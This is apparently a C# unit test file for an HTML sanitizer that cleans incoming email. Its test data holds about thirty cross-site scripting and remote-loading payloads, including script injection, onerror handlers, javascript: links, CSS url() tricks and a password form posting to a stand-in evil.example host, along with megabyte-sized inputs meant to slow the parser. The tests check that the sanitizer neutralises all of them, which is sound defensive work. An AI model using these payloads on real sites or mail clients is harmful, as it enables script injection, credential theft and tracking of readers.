using System.Diagnostics;

namespace Amiable.Inbound;

/// <summary>HTML of strangers, the nastier the better.</summary>
public sealed class CleanHtmlTests
{
    private static string Clean(string html) => CleanHtml.Of(html, id => id == "logo@x" ? "data:image/png;base64,AAAA" : null);

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT >")]
    [InlineData("<script>alert(1)")]
    [InlineData("<scr<script>ipt>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img src=\"https://evil.example/pixel.gif\">")]
    [InlineData("<img/src=\"https://evil.example\"/onerror=alert(1)>")]
    [InlineData("<img srcset=\"https://evil.example/a 1x\">")]
    [InlineData("<svg/onload=alert(1)><image href=\"https://evil.example\"/></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<form action=\"https://evil.example\"><input name=password><button>Go</button></form>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.example\">")]
    [InlineData("<link rel=stylesheet href=\"https://evil.example/x.css\"><base href=\"https://evil.example\">")]
    [InlineData("<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>")]
    [InlineData("<div style=\"background:url(https://evil.example/x)\">")]
    [InlineData("<div style=\"background-color:u\\72l(https://evil.example)\">")]
    [InlineData("<div style=\"width:expression(alert(1));behavior:url(#x)\">")]
    [InlineData("<div style=\"position:fixed;top:0\">")]
    [InlineData("<a href=\"javascript:alert(1)\">")]
    [InlineData("<a href=\"&#106;avascript:alert(1)\" onmouseover=alert(1)>")]
    [InlineData("<table background=\"https://evil.example/x.gif\"><tr><td background=//evil.example>")]
    [InlineData("<!--[if mso]><script>alert(1)</script><![endif]-->")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<textarea><img src=x onerror=alert(1)></textarea>")]
    [InlineData("<title><img src=x onerror=alert(1)>")]
    [InlineData("<video src=\"https://evil.example\" autoplay></video><audio src=//evil.example></audio>")]
    [InlineData("<p title='\"><script>alert(1)</script>'>")]
    [InlineData("<a title=\"x\"\"onclick=alert(1)\">")]
    [InlineData("<p lang=\"x&quot; onload=&quot;alert(1)\">")]
    public void Nothing_runs_loads_or_leads_anywhere(string html)
    {
        var clean = Clean($"<p>before</p>{html}");
        Assert.StartsWith("<p>before</p>", clean, StringComparison.Ordinal);
        foreach (var tag in Tags(clean))
        {
            Assert.Matches("^</?(?:p|div|a|table|tr|td|img)\\b", tag);
            Assert.DoesNotMatch("\\s(?:on\\w+|href|action|srcset|background|srcdoc)=", Unquoted(tag));
            Assert.DoesNotMatch("(?i)url\\(|expression|position|evil", tag.Replace("title=\"https://evil", "", StringComparison.Ordinal));
        }
    }

    [Fact]
    public void What_a_letter_looks_like_stays()
    {
        Assert.Equal(
            "<p style=\"color:#c00;text-align:center\">A <b>bold</b> word &amp; <a title=\"https://roux.example/\">a link</a><br></p>",
            Clean(
                "<P STYLE='color:#c00; text-align: center; float:left'>A <b>bold</b> word &amp; <a href=\"https://roux.example/\">a link</a><br></P>"
            )
        );
        Assert.Equal("<table><tr><td colspan=\"2\">1 &lt; 2</td></tr></table>", Clean("<table><tr><td colspan=2>1 &lt; 2</table>"));
        Assert.Equal("hello", Clean("<html><head><title>x</title></head><body onload=x>hello</body></html>"));
        Assert.Equal("1 &lt; 2 and a &lt;", Clean("1 < 2 and a <"));
    }

    [Fact]
    public void A_picture_that_came_with_the_mail_is_shown_and_no_other() =>
        Assert.Equal(
            "<img alt=\"Logo\" src=\"data:image/png;base64,AAAA\">",
            Clean("<img alt=Logo src=\"CID:logo@x\"><img src=cid:other><img src=data:image/png;base64,BB>")
        );

    [Theory]
    [InlineData("<")]
    [InlineData("<a \"")]
    [InlineData("<div>")]
    [InlineData("</div>")]
    [InlineData("<script>")]
    [InlineData("<p style=\"color:red;")]
    [InlineData("<!--")]
    [InlineData("<head>")]
    [InlineData("<a b=")]
    public void A_hostile_megabyte_takes_no_longer_than_a_letter(string piece)
    {
        var html = string.Concat(Enumerable.Repeat(piece, 1_000_000 / piece.Length));
        var watch = Stopwatch.StartNew();
        Clean(html);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{piece} took {watch.Elapsed}");
    }

    private static IEnumerable<string> Tags(string html) =>
        System.Text.RegularExpressions.Regex.Matches(html, "<(?:[^>\"]|\"[^\"]*\")*>").Select(m => m.Value);

    private static string Unquoted(string tag) => System.Text.RegularExpressions.Regex.Replace(tag, "\"[^\"]*\"", "");
}
